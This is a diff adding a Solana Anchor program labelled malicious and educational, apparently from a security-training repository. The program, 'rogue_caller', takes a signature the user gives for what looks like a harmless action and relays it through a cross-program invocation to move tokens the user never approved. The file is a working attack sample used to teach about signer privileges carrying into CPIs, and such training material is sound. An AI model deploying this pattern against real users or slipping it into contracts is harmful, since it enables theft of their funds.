@@ -0,0 +1,53 @@
+// ❌ MALICIOUS - Outer program that relays a user's signature into 05
+// ⚠️ EDUCATIONAL ONLY: pairs with transfer_with_introspection in 05-arbitrary-cpi
+use anchor_lang::prelude::*;
+use arbitrary_cpi::program::ArbitraryCpi;
+
+declare_id!("ARHwLxVW99VwjZFCUmDQynCKzfqjibhDiwGjdfRbe1xG");
+
+#[program]
+pub mod rogue_caller {
+    use super::*;
+    
+    /// Looks like a harmless action to the user who signs it. Signer
+    /// privileges carry into CPIs, so the rogue program can spend that
+    /// signature on a transfer the user never asked for.
+    pub fn relay_transfer(ctx: Context<RelayTransfer>, amount: u64) -> Result<()> {
+        msg!("Relaying {} tokens through a CPI", amount);
+        arbitrary_cpi::cpi::transfer_with_introspection(
+            CpiContext::new(
+                ctx.accounts.arbitrary_cpi_program.to_account_info(),
+                arbitrary_cpi::cpi::accounts::TransferWithIntrospection {
+                    token_program: ctx.accounts.token_program.to_account_info(),
+                    from: ctx.accounts.from.to_account_info(),
+                    to: ctx.accounts.to.to_account_info(),
+                    authority: ctx.accounts.authority.to_account_info(),
+                    instructions: ctx.accounts.instructions.to_account_info(),
+                },
+            ),
+            amount,
+        )
+    }
+}
+
+/// Account order matches `TransferWithIntrospection`, plus the program itself
+#[derive(Accounts)]
+pub struct RelayTransfer<'info> {
+    pub arbitrary_cpi_program: Program<'info, ArbitraryCpi>,
+    
+    /// CHECK: Validated by the callee
+    pub token_program: AccountInfo<'info>,
+    
+    /// CHECK: Validated by the callee
+    #[account(mut)]
+    pub from: AccountInfo<'info>,
+    
+    /// CHECK: Validated by the callee
+    #[account(mut)]
+    pub to: AccountInfo<'info>,
+    
+    pub authority: Signer<'info>,
+    
+    /// CHECK: Validated by the callee
+    pub instructions: AccountInfo<'info>,
+}